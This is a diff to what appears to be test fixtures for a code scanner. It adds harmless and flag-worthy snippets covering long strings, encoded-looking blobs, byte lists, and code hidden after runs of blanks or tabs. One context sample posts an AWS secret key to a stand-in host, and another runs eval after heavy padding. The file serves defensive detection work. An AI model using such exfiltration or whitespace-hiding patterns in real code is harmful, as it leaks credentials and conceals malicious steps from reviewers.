@@ -48,6 +48,10 @@ HARMLESS = {
     "a variable by its address": "import posthog\nkey = 'os.environ/POSTHOG_KEY'",
     "a longer name behind what is looked at": f"system = 1\n{'#' * 140}\nx.system_fingerprint",
     "its own hidden folder": "NAME = 'model.claude_3'",
+    "a long line of words": "x = '" + "long words, " * 200 + "'",
+    "a line that is not long": "x = '" + "Ab9/" * 35 + "'",
+    "a remark behind blanks": "x = '" + "long words, " * 10 + "'" + " " * 61 + "# why",
+    "a table": "x = [" + "1024, " * 60 + "]",
     "a text of the service": "import json\nURL = 'https://a.example'\ndef f(d):\n    return d.get('key')",
 }
 
@@ -102,6 +106,10 @@ WORTH = {
     "a secret through another client": (
         "import os\nfrom .web import client\nclient.post('https://c.example', data=os.getenv('AWS_SECRET_ACCESS_KEY'))"
     ),
+    "a blob": "x = '" + "Ab9/" * 75 + "'",
+    "numbers that may be bytes": "x = [" + "104, " * 60 + "]",
+    "code behind blanks": "x = '" + "long words, " * 10 + "';" + " " * 61 + "run()",
+    "code behind tabs and blanks": "x = '" + "long words, " * 10 + "';" + "\t \t" * 21 + "run()",
     "a word far from the first of its kind": "x = retrieval\n" * 200 + "eval(x)",
 }
 
